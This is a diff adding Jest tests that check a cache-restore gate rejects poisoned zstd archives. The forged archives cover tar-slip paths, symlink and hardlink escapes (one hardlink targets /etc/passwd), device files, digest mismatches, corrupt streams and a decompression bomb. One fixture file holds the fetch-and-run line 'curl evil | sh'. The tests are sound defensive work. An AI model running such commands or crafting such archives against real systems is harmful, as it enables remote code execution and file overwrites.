@@ -4,12 +4,13 @@
  * and write nothing into the workspace or outside the private staging area.
  */
 import { beforeAll, describe, expect, it } from '@jest/globals';
-import { createHash } from 'node:crypto';
+import { createHash, randomBytes } from 'node:crypto';
 import { existsSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { REPO_ROOT, runAction, type ActionRun } from '../helpers/run-action.js';
 import { expectValidResult } from '../helpers/result-schema.js';
 import { pathsId } from '../../src/gates/cache-sentinel/index.js';
+import { blake3Hex } from '../../src/hashing/blake3.js';
 import {
   forge,
   listTree,
@@ -315,4 +316,109 @@ describe('cache-sentinel restore: poisoned entries are quarantined (dist)', () =
     expect(run.result?.verdict).toBe('fail');
     expect(existsSync(join(sb.workspace, 'deps'))).toBe(false);
   });
+});
+
+describe('cache-sentinel restore: poisoned zstd entries, decompressed on the worker thread (dist)', () => {
+  it('tar-slip with ..', () =>
+    poisonCase(
+      { members: [{ name: '0/../../evil', content: 'pwned' }, ...good], entries: [], zstd: true },
+      'path-traversal'
+    ));
+
+  it('symlink escaping the destination, then a write through it', () =>
+    poisonCase(
+      {
+        members: [
+          { name: '0/esc', type: 'symlink', linkname: '../../../outside' },
+          { name: '0/esc/evil', content: 'pwned' }
+        ],
+        zstd: true
+      },
+      'symlink-escape'
+    ));
+
+  it('hardlink and device members', async () => {
+    await poisonCase(
+      {
+        members: [{ name: '0/h', type: 'link', linkname: '/etc/passwd' }],
+        entries: [],
+        zstd: true
+      },
+      'hardlink'
+    );
+    await poisonCase(
+      { members: [{ name: '0/dev', type: 'character-device' }], entries: [], zstd: true },
+      'special-file'
+    );
+  });
+
+  it('a file whose bytes are not the signed digest, and a file not in the manifest', async () => {
+    await poisonCase(
+      {
+        members: good,
+        zstd: true,
+        manifestEdit: (m) => {
+          m.entries[0].blake3 = '0'.repeat(64);
+        }
+      },
+      'digest-mismatch'
+    );
+    await poisonCase(
+      {
+        members: [...good, { name: '0/extra.sh', content: 'curl evil | sh' }],
+        zstd: true,
+        manifestEdit: (m) => {
+          m.entries = m.entries.filter((e) => e.path !== 'extra.sh');
+        }
+      },
+      'unlisted-file'
+    );
+  });
+
+  it('a garbled zstd stream the signer vouched for is a corrupt archive', () =>
+    poisonCase(
+      {
+        members: good,
+        zstd: true,
+        zstdBytes: (c) => Buffer.concat([c.subarray(0, 6), Buffer.alloc(c.length - 6, 0xff)])
+      },
+      'corrupt-archive'
+    ));
+
+  it('a zstd stream cut in half (signed as cut) is a corrupt archive', () =>
+    poisonCase(
+      {
+        members: [...good, { name: '0/big.bin', content: randomBytes(300_000) }],
+        zstd: true,
+        zstdBytes: (c) => c.subarray(0, Math.floor(c.length / 2))
+      },
+      'corrupt-archive'
+    ));
+
+  it('a compressed bomb: a member far larger than its manifest entry stops at its header', async () => {
+    const t0 = performance.now();
+    await poisonCase(
+      {
+        members: [...good, { name: '0/bomb', content: Buffer.alloc(64 * 1024 * 1024) }],
+        zstd: true,
+        manifestEdit: (m) => {
+          const bomb = m.entries.find((e) => e.path === 'bomb')!;
+          bomb.size = 4;
+          bomb.blake3 = blake3Hex(Buffer.alloc(4));
+        }
+      },
+      'size-mismatch'
+    );
+    expect(performance.now() - t0).toBeLessThan(30_000);
+  });
+
+  it('compressed bytes swapped after signing: the stored digest is reported', () =>
+    poisonCase(
+      {
+        members: good,
+        zstd: true,
+        afterSign: (p) => Buffer.concat([p.subarray(0, 6), Buffer.alloc(p.length - 6, 0xff)])
+      },
+      'archive-digest-mismatch'
+    ));
 });
